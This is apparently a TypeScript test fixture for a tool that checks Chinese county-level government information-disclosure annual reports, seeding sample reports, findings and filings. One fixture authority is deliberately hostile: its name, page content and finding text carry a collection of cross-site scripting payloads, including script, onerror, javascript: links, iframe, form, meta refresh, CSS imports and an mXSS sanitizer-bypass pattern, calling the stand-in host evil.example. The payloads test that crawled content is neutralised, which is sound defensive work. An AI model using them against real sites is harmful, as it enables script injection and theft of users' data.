import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as captures from '../../db/captures.ts'
import type { Db } from '../../db/connect.ts'
import * as filings from '../../db/filings.ts'
import * as findings from '../../db/findings.ts'
import { importRegistry } from '../../db/registry.ts'
import * as reportVersions from '../../db/report-versions.ts'
import * as runs from '../../db/runs.ts'
import { openSnapshotStore, type SnapshotStore } from '../../db/snapshot-store.ts'
import * as snapshots from '../../db/snapshots.ts'
import type { Finding } from '../../src/model/finding.ts'
import type { RegisteredAuthority } from '../../src/model/portal.ts'
import { fingerprintOf } from '../../src/rules/fingerprint.ts'
import { openTestDatabase } from '../test-database.ts'
import { desksOf } from './desks.ts'
import { type SamplePage, samplePage } from './sample-page.ts'

const DISTRICT = 'yunhe'
const SCRIPT = `<script>parent.stolen=1;fetch('https://evil.example/x')</script>`

const AUTHORITIES: readonly (Pick<RegisteredAuthority, 'id' | 'name'> & Partial<RegisteredAuthority>)[] = [
  { id: 'finance', name: '云河区财政局' },
  { id: 'education', name: '云河区教育局' },
  { id: 'government', name: '云河区人民政府', kind: 'county_gov', level: 'county' },
  { id: 'qingshi', name: '青石镇人民政府', kind: 'township', level: 'township' },
  { id: 'hostile', name: `云河区“<img src=x onerror=alert(1)>”局` },
  {
    id: 'water',
    name: '云河区水务局',
    level: 'county',
    formerNames: [{ name: '云河区水利局', since: null, until: 2018 }],
    until: 2022,
    successor: 'government',
  },
]

const SENTENCE = '2023年，本机关主动公开政府信息127条，其中财政预决算信息60条，其他信息62条。'

export const FINANCE_PAGE = samplePage({
  authority: '云河区财政局',
  paragraphs: ['一年来，本机关认真贯彻落实条例。', SENTENCE, '全年新收政府信息公开申请15件。'],
  raw: {
    't2.nd_issued': '3',
    't2.nd_in_force': '7',
    't2.reg_issued': '',
    't3.new_received.natural_person': '12',
    't3.new_received.commercial': '3',
    't3.new_received.total': '15',
    't3.carried_in.natural_person': '2',
    't3.carried_in.total': '2',
    't3.granted.natural_person': '9',
    't3.granted.commercial': '3',
    't3.granted.total': '12',
    't3.unable_not_held.natural_person': '4',
    't3.unable_not_held.total': '4',
    't3.result_total.natural_person': '13',
    't3.result_total.commercial': '3',
    't3.result_total.total': '61',
    't3.carried_out.natural_person': '1',
    't3.carried_out.total': '1',
    't4.review_upheld': '/',
  },
  claims: [
    {
      kind: 'disclosed_total',
      value: 127,
      unit: '条',
      approximate: false,
      text: SENTENCE,
      section: 1,
      label: null,
      of: null,
      closed: true,
      scope: 'own',
      at: null,
    },
    {
      kind: 'part',
      value: 60,
      unit: '条',
      approximate: false,
      text: SENTENCE,
      section: 1,
      label: '财政预决算信息',
      of: 0,
      scope: null,
      at: null,
    },
  ],
})

const FINANCE_FINDINGS: readonly Finding[] = [
  {
    rule: 'T3-01',
    ruleSet: '2',
    family: 'inaccurate',
    severity: 'error',
    verdict: 'fail',
    message: '表三“总计”列：本年新收+上年结转=17，办理总计+结转下年=62，相差-45，勾稽关系不成立。',
    messageEn: 'Table 3, column 总计: received and carried in make 17, results and carried out 62, a difference of -45.',
    cells: ['t3.new_received.total', 't3.carried_in.total', 't3.result_total.total', 't3.carried_out.total'],
    quote: null,
    left: 17,
    right: 62,
    difference: -45,
    basis: '国办公开办函〔2021〕30号，表三表头：第一项加第二项之和，等于第三项加第四项之和',
    repair: [{ cell: 't3.result_total.total', from: 61, to: 16, reason: '数字颠倒', option: 0 }],
    subject: 'column:total',
  },
  {
    rule: 'NAR-02',
    ruleSet: '2',
    family: 'inaccurate',
    severity: 'error',
    verdict: 'fail',
    message: '文中“主动公开政府信息127条”：分项合计122，少于总数127，相差5。',
    messageEn: 'The text says 127 items were disclosed; its parts add up to 122, 5 fewer.',
    cells: [],
    quote: SENTENCE,
    left: 122,
    right: 127,
    difference: -5,
    basis: '算术',
    repair: [],
    subject: 'claim:disclosed_total',
  },
  {
    rule: 'CELL-02',
    ruleSet: '2',
    family: 'inaccurate',
    severity: 'warning',
    verdict: 'fail',
    message: '表二有1处空白或“/”，无相关情况应填“0”。',
    messageEn: 'Table 2 has one blank cell; 0 is to be printed where there is nothing to report.',
    cells: ['t2.reg_issued'],
    quote: null,
    left: null,
    right: null,
    difference: null,
    basis: '填报惯例',
    repair: [],
    subject: 't2',
  },
]

export type Filled = Awaited<ReturnType<typeof fillDatabase>>

/** A small district: one report with three findings, one hostile one, one missing, and what the crawl left of it. */
export async function fillDatabase() {
  const database = await openTestDatabase()
  const folder = await mkdtemp(join(tmpdir(), 'gouji-review-'))
  const store = openSnapshotStore(folder)
  const { db } = database
  await importRegistry(db, {
    districts: [{ id: DISTRICT, name: '云河区', deadlines: [], holidays: [], rules: {}, years: [2022, 2023] }],
    authorities: AUTHORITIES.map((authority) => ({
      district: DISTRICT,
      kind: 'gov_department',
      aliases: [],
      since: null,
      level: null,
      formerNames: [],
      until: null,
      successor: null,
      submitted: {},
      exempt: {},
      ...authority,
    })),
    portals: [
      {
        id: 'portal',
        name: '云河区人民政府门户网站',
        district: DISTRICT,
        host: 'www.yunhe.example',
        otherHosts: [],
        family: null,
        pace: 3,
        sample: false,
        columns: [{ url: 'https://www.yunhe.example/nianbao/', authorities: 'all' }],
      },
    ],
  })
  const { id: runId } = await runs.start(db, { kind: 'nightly' })
  const publish = (authority: string, page: SamplePage, url?: string) => publishPage(db, store, runId, authority, page, url)

  const finance = await publish('finance', FINANCE_PAGE)
  const hostileName = AUTHORITIES[4]?.name ?? ''
  const hostile = await publish(
    'hostile',
    samplePage({
      authority: hostileName,
      extra: `${SCRIPT}<img src="https://evil.example/pixel.png" onerror="parent.stolen=2"><svg onload="parent.stolen=3"><a href="javascript:parent.stolen=4">x</a></svg>
        <iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form"><input name="q"><button>送出</button></form>
        <meta http-equiv="refresh" content="0;url=https://evil.example/meta"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
        <style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) }</style><p style="background:url(https://evil.example/p.png)" onclick="parent.stolen=5">正文</p>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.stolen=6&gt;"></table></mtext></math>`,
      paragraphs: ['文中写有 <b>标签</b>。'],
    }),
  )
  await checkFinance(db, finance)
  await findings.reconcile(db, checkedOf('hostile', hostileName, hostile), [
    withFingerprint('hostile', {
      ...FINANCE_FINDINGS[2]!,
      message: `表二有1处空白${SCRIPT}`,
      quote: `"><img src=x onerror="parent.stolen=7">`,
      severity: 'info',
    }),
  ])
  await findings.reconcile(db, { ...checkedOf('qingshi', '青石镇人民政府', null), scope: 'filing' }, [
    withFingerprint('qingshi', {
      rule: 'TIME-03',
      ruleSet: '2',
      family: 'late',
      severity: 'warning',
      verdict: 'fail',
      message: '2023年年报截至2024年2月1日未发现公布。',
      messageEn: 'The report for 2023 was not found by 1 February 2024.',
      cells: [],
      quote: null,
      left: null,
      right: null,
      difference: null,
      basis: '本地工作要求',
      repair: [],
      subject: 'filing',
    }),
  ])
  await filings.upsert(db, [
    filingOf('finance', { report_id: finance.reportId, published_on: '2024-01-22', published_from: 'meta:PubDate' }),
    filingOf('education', { status: 'late', published_on: '2024-02-05', published_from: 'list', days_late: 5, backdated: true }),
    filingOf('qingshi', { status: 'not-found', strength: 'policy' }),
    filingOf('water', {
      status: 'exempt',
      reason: { zh: '已并入云河区人民政府，2023年度起由其编制', en: 'merged into 云河区人民政府, which reports from 2023 on' },
    }),
    filingOf('hostile', { report_id: hostile.reportId, status: 'late-doubtful' }),
  ])
  return {
    db,
    desks: desksOf(db),
    snapshots: store,
    finance,
    hostile,
    publish,
    close: async () => {
      await database.close()
      await rm(folder, { recursive: true, force: true })
    },
  }
}

type Stored = { readonly reportId: number; readonly versionId: number }

async function publishPage(db: Db, store: SnapshotStore, runId: number, authority: string, page: SamplePage, url?: string) {
  const sha256 = await store.put(page.bytes)
  await snapshots.record(db, { sha256, bytes: page.bytes.length, mediaType: page.report.source.mediaType })
  const [capture] = await captures.record(db, runId, [
    {
      url: url ?? `https://www.yunhe.example/nianbao/${authority}.html`,
      sha256,
      columnId: null,
      authorityId: authority,
      districtId: DISTRICT,
      listTitle: page.report.title,
      dates: [{ date: '2024-01-23', from: 'list' }],
      attachmentOf: null,
    },
  ])
  if (!capture) throw new Error('no capture was recorded')
  return reportVersions.store(db, {
    captureId: capture.id,
    filer: authority,
    authorityId: authority,
    authorityName: page.report.authority ?? '',
    districtId: DISTRICT,
    year: page.report.year ?? 0,
    reader: '1',
    report: page.report,
  })
}

/** Checks the finance report as the check job does; a second time changes nothing. */
export function checkFinance(db: Db, stored: Stored, found: readonly Finding[] = FINANCE_FINDINGS) {
  return findings.reconcile(
    db,
    checkedOf('finance', '云河区财政局', stored),
    found.map((finding) => withFingerprint('finance', finding)),
  )
}

function checkedOf(filer: string, name: string, stored: Stored | null): findings.Checked {
  return {
    scope: 'report',
    filer,
    authorityId: filer,
    authorityName: name,
    districtId: DISTRICT,
    year: 2023,
    reportId: stored?.reportId ?? null,
    versionId: stored?.versionId ?? null,
  }
}

function withFingerprint(filer: string, finding: Finding): findings.FindingWithFingerprint {
  return { ...finding, fingerprint: fingerprintOf({ filer, year: 2023, rule: finding.rule, subject: finding.subject }) }
}

function filingOf(authority: string, more: Partial<filings.AssessedFiling>): filings.AssessedFiling {
  return {
    authority_id: authority,
    year: 2023,
    status: 'on-time',
    due: '2024-01-31',
    strength: 'law',
    basis: '《政府信息公开条例》第四十九条第一款',
    reason: null,
    published_on: null,
    published_from: null,
    days_late: null,
    backdated: false,
    report_id: null,
    evidence: {
      readings: [
        { columnUrl: 'https://www.yunhe.example/nianbao/', readAt: '2024-02-01T18:30:00.000Z', complete: true, found: false },
      ],
      dates: [{ date: '2024-01-22', from: 'meta:PubDate' }],
    },
    ...more,
  }
}
